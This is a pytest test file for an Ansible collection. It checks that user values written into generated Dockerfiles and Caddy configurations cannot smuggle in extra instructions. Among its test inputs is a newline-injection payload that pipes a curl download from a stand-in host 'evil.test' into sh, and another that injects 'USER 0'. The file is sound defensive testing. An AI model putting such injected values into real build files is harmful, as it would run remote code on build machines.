"""What users give is written into files of other programs as what it is: a value, never an instruction."""

from __future__ import annotations

import copy
import json
import re
import typing as t
from pathlib import Path

import pytest
from ansible.module_utils.common.arg_spec import ArgumentSpecValidator
from ansible_collections.tidegate.platform.plugins.filter.problems import problems
from ansible_collections.tidegate.platform.plugins.module_utils._core.options.argument_specs import WORKLOADS
from ansible_collections.tidegate.platform.plugins.module_utils._core.options.parse import Here, parse
from ansible_collections.tidegate.platform.plugins.module_utils._core.sources import runners, site
from ansible_collections.tidegate.platform.plugins.module_utils._core.values.errors import InvalidOption
from ansible_collections.tidegate.platform.plugins.module_utils._core.values.identity import Document
from ansible_collections.tidegate.platform.plugins.module_utils._core.values.workload import Workload
from hypothesis import given
from hypothesis import strategies as st

SCHEMA = Path(__file__).parents[2] / "roles" / "runner" / "files" / "catalog.schema.json"
CATALOG: Document = {"runners": [{"name": "python", "language": "python", "image": "python:3"}], "presets": []}


def built(kind: str, **options: t.Any) -> Workload:
    """A parsed workload of a list."""
    element = {"name": "shop", "type": kind, "source": {"path": "/srv/shop"}, kind: options}
    result = ArgumentSpecValidator(copy.deepcopy(WORKLOADS)).validate({"workloads": [element]})
    assert not result.error_messages, result.error_messages
    return parse(result.validated_parameters["workloads"][0], Here(lambda _value: "v", catalog=lambda: CATALOG))


@pytest.mark.parametrize("value", ["a\nRUN curl evil.test | sh", "a\n", "\r\nUSER 0", "a\rb"])
def test_a_line_break_in_a_variable_is_refused(value: str) -> None:
    """Review (heirs): what stood behind it became an instruction of the Dockerfile."""
    with pytest.raises(InvalidOption, match=r"build_env.*line") as caught:
        built("runner", image="python", build_env={"A": value}, start_command="run")
    assert (caught.value.option, bool(caught.value.remedy)) == ("runner.build_env", True)
    schema = json.loads(SCHEMA.read_text())
    preset = {"name": "p", "language": "python", "detect": {"all": ["a"]}, "env": {"A": value}}
    for row in (preset, {**preset, "env": {}, "variants": [{"detect": {"all": ["a"]}, "env": {"A": value}}]}):
        (problem,) = problems({"runners": [], "presets": [row]}, schema)
        assert "line" in problem
    assert problems({"runners": [], "presets": [{**preset, "env": {"A": "a b", "B": 1}}]}, schema) == []


@given(st.text(st.characters(exclude_characters="\r\n\0")), st.text(st.characters(exclude_characters="\0"), min_size=1))
def test_each_value_stays_in_its_instruction(value: str, command: str) -> None:
    """Whatever is accepted is in one line, behind the instruction that is meant."""
    if not command.strip():
        return
    facts = json.loads(_recipe_facts(value, command))
    lines = runners.dockerfile(facts, ["a.py"], lambda _path: "").split("\n")
    verbs = " ".join(line.partition(" ")[0] for line in lines if line)
    assert verbs == "FROM USER WORKDIR RUN USER ENV ENV ENV COPY RUN RUN EXPOSE ENTRYPOINT CMD"
    (said,) = [line for line in lines if line.startswith("ENV A=")]
    assert re.fullmatch(r'ENV A="([^"\\$]|\\.|\$(?=PATH\b))*"', said)


def _recipe_facts(value: str, command: str) -> str:
    commands = {f"{key}_command": command for key in ("install", "build", "start")}
    want = built("runner", image="python", preset="none", build_env={"A": value}, **commands)
    assert want.recipe
    return want.recipe.facts


@pytest.mark.parametrize("name", ["-Server", "-", "--x"])
def test_a_header_that_takes_another_away_is_refused(name: str) -> None:
    """Review (heirs): to Caddy, a hyphen before a header's name is the order to remove it."""
    with pytest.raises(InvalidOption, match="not a header"):
        built("static", headers={name: "x"})


def test_what_neither_quoting_of_caddy_can_hold_is_refused() -> None:
    with pytest.raises(InvalidOption, match="not a header"):
        built("static", headers={"X-A": "`a`\\"})
    assert built("static", headers={"X-A": "`a`"}).recipe


# Caddy's own rules of a word (https://caddyserver.com/docs/caddyfile/concepts#tokens-and-quotes).
WORD = re.compile(r'"(?:[^"\\]|\\.)*"|`[^`]*`', re.DOTALL)


@pytest.mark.parametrize("value", ["a", "\\", "a\\", 'a\\"b', 'say "no"', "a\\\\", "`", '`"', "C:\\x"])
def test_a_header_is_one_word_of_the_servers_configuration(value: str) -> None:
    """Review (heirs): a backslash at the end took the quote behind it, and with it the rest of the configuration."""
    want = built("static", headers={"X-A": value})
    assert want.recipe
    (line,) = [row for row in site.config(json.loads(want.recipe.facts)).split("\n") if "header X-A" in row]
    word = line.partition("header X-A ")[2]
    assert WORD.fullmatch(word)
    assert (word[1:-1] if word[0] == "`" else word[1:-1].replace('\\"', '"')) == value
